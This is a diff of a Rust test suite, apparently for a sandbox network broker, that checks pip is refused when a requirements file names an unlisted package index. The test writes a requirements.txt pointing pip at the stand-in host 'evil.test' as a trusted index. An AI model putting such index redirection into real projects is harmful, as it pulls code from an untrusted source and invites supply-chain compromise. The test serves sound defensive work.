@@ -281,22 +281,34 @@ async fn pip_installs_from_a_listed_index_and_is_refused_an_unlisted_one() {
         )
         .await;
     assert!(text.is_err(), "{text:?}");
+    requirements_naming_an_unlisted_index_are_refused(&s, ws.path(), port).await;
+    s.close().await;
+    let _ = index.kill();
+    let _ = index.wait();
+}
+
+/// `pip install -r` of a requirements file naming an unlisted index, as projects do: only
+/// the broker sees the index, and refuses it with python as the program. `ws` is where
+/// the session's workspace is on this machine.
+pub(crate) async fn requirements_naming_an_unlisted_index_are_refused(
+    s: &Session,
+    ws: &std::path::Path,
+    port: u16,
+) {
     std::fs::write(
-        ws.path().join("requirements.txt"),
+        ws.join("requirements.txt"),
         format!("--index-url http://evil.test:{port}/simple/\n--trusted-host evil.test\nsix\n"),
     )
     .unwrap();
+    let pip = "PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1 .venv/bin/pip install -q";
     let r = run(
-        &s,
+        s,
         &format!("{pip} --retries 0 --force-reinstall -r requirements.txt"),
     )
     .await;
     assert_ne!(r.exit_code, Some(0), "{r:?}");
     let d = refused_at(&r, &format!("evil.test:{port}"));
     assert!(d.program.contains("python3"), "{d:?}");
-    s.close().await;
-    let _ = index.kill();
-    let _ = index.wait();
 }
 
 /// Programs that ignore the proxy (raw sockets, their own resolver, node's `fetch`) reach
